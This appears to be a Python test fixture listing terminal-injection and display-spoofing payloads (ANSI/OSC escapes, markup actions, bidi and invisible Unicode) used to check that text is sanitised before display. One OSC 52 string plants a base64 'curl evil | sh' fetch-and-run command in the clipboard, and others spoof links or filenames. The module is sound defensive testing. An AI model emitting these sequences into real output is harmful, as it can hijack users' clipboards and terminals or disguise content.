"""Text that somebody may have written into an annotation, a tag or an error body to attack whoever looks at it."""

MARKUP = (
    "[red]x[/red]",
    "a[/b]c",
    "x[/]y",
    "[@click=app.pwn]CLICK[/]",
    "[link=https://x.example]x[/link]",
    "[a,b] [0-9]",
)
ESCAPES = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[1;1Hgone",
    "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "owner\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\ team",
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "\x1b]0;title\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b[?1049l\x1b[?25h",
    "\x1b[6n",
)
C1 = ("\x9b31mred", "\x9d52;c;YQ==\x9c", "\x90q\x9c", "\x85next line")
CONTROLS = (
    "nul\x00byte",
    "bell\x07",
    "back\b\b\b\bspace",
    "tab\there",
    "new\nline",
    "carriage\rreturn",
    "\v\f",
    "del\x7f",
    "crlf\r\nx",
)
UNICODE = (
    "user\u202etxt.exe",
    "\u2066isolate\u2069 \u200emark\u200f \u061c",
    "zero\u200bwidth\u200cjoin\u200der\u2060word\ufeffbom",
    "tags\U000e0001\U000e0068\U000e0069",
    "sep\u2028line\u2029paragraph",
    "note\ufff9a\ufffab\ufffb",
    "lone\ud800surrogate\udfff",
    "soft\u00adhyphen nb\u00a0space",
    "filler\u3164\u115f\uffa0\u2800",
    "variation\ufe0f\U000e0100",
    "private\ue000\U0010ffff",
)
MARKS = ("z" + "\u0301" * 50 + "algo", "\u0301leading", "e\u0301 o\u0308")
WIDE = ("\u540d\u524d\u540d\u524d", "\U0001f469\u200d\U0001f4bb dev", "\U0001f1e9\U0001f1ea", "\uff21\uff22")
LONG = ("x" * 10_000, "\u540d" * 10_000, "\x1b" * 10_000)

PAYLOADS: tuple[str, ...] = (*MARKUP, *ESCAPES, *C1, *CONTROLS, *UNICODE, *MARKS, *WIDE, *LONG, "")
"""Every kind of text that once did something other than being shown."""


def harmless(text: str) -> bool:
    """Whether no character of a screen's text works or hides, line ends between its lines apart."""
    return all(char.isprintable() for char in text.replace("\n", ""))
